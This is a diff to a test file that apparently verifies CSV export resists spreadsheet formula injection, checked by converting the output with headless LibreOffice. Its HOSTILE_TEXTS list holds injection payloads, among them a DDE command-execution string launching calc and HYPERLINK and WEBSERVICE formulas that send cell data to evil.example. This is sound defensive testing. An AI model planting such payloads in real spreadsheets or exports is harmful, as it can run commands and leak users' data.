@@ -13,25 +13,46 @@ const TABLE_NAMESPACE = 'urn:oasis:names:tc:opendocument:xmlns:table:1.0';
 const TEXT_NAMESPACE = 'urn:oasis:names:tc:opendocument:xmlns:text:1.0';
 
 const HOSTILE_TEXTS = [
-  ...['=1+1', '+1+1', '-1-1', '@SUM(1)', '＝1+1', '＋1+1', '－1-1', '＠SUM(1)'],
-  ...['\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '"=1+1"', '""=1+1""', "'=1+1"],
-  ...['a,=1+1', 'a;=1+1;b', 'a\t=1+1\tb', 'a|=1+1', 'a; =1+1;b', 'a;"=1+1";b', 'a";=1+1;"b'],
-  ...['a;＝1+1', 'a;+1+1', 'a;-1-1', 'a;@SUM(1)', 'a\n=1+1', 'a\r\n=1+1,b\r\nc', 'a\r=1+1'],
-  ...[
-    'a,=SUM(1)',
-    'a;=SUM(1);b',
-    'a\t=SUM(1)\tb',
-    'a; =SUM(1);b',
-    'a;"=SUM(1)";b',
-    'a";=SUM(1);"b',
-  ],
-  ...[
-    'a;=1+SUM (A1);b',
-    'a\n=SUM(1)',
-    'a\r\n=SUM(1),b\r\nc',
-    "a;=cmd|'/C calc'!A0;b",
-    'a;=sum(1);',
-  ],
+  '=1+1',
+  '+1+1',
+  '-1-1',
+  '@SUM(1)',
+  '＝1+1',
+  '＋1+1',
+  '－1-1',
+  '＠SUM(1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '"=1+1"',
+  '""=1+1""',
+  "'=1+1",
+  'a,=1+1',
+  'a;=1+1;b',
+  'a\t=1+1\tb',
+  'a|=1+1',
+  'a; =1+1;b',
+  'a;"=1+1";b',
+  'a";=1+1;"b',
+  'a;＝1+1',
+  'a;+1+1',
+  'a;-1-1',
+  'a;@SUM(1)',
+  'a\n=1+1',
+  'a\r\n=1+1,b\r\nc',
+  'a\r=1+1',
+  'a,=SUM(1)',
+  'a;=SUM(1);b',
+  'a\t=SUM(1)\tb',
+  'a; =SUM(1);b',
+  'a;"=SUM(1)";b',
+  'a";=SUM(1);"b',
+  'a;=1+SUM (A1);b',
+  'a\n=SUM(1)',
+  'a\r\n=SUM(1),b\r\nc',
+  "a;=cmd|'/C calc'!A0;b",
+  'a;=sum(1);',
   '=HYPERLINK("http://evil.example/?q="&A1,"Total")',
   'a\n=WEBSERVICE("http://evil.example"),b',
 ];
@@ -71,7 +92,11 @@ function open(csv: string, separators?: string): Cell[][] {
     '--headless',
     // Separators, double quotes, UTF-8, first line.
     ...(separators === undefined ? [] : [`--infilter=CSV:${separators},34,76,1`]),
-    ...['--convert-to', 'fods', '--outdir', folder, file],
+    '--convert-to',
+    'fods',
+    '--outdir',
+    folder,
+    file,
   ];
   execFileSync(OFFICE, args, { stdio: 'pipe' });
   const xml = readFileSync(path.join(folder, 'tasks.fods'), 'utf8');
@@ -82,8 +107,8 @@ function open(csv: string, separators?: string): Cell[][] {
 }
 
 function readCell(cell: Element): Cell {
-  for (const tab of [...cell.getElementsByTagNameNS(TEXT_NAMESPACE, 'tab')]) tab.append('\t');
-  for (const blanks of [...cell.getElementsByTagNameNS(TEXT_NAMESPACE, 's')]) {
+  for (const tab of cell.getElementsByTagNameNS(TEXT_NAMESPACE, 'tab')) tab.append('\t');
+  for (const blanks of cell.getElementsByTagNameNS(TEXT_NAMESPACE, 's')) {
     blanks.append(' '.repeat(Number(blanks.getAttributeNS(TEXT_NAMESPACE, 'c') ?? 1)));
   }
   const lines = [...cell.getElementsByTagNameNS(TEXT_NAMESPACE, 'p')];
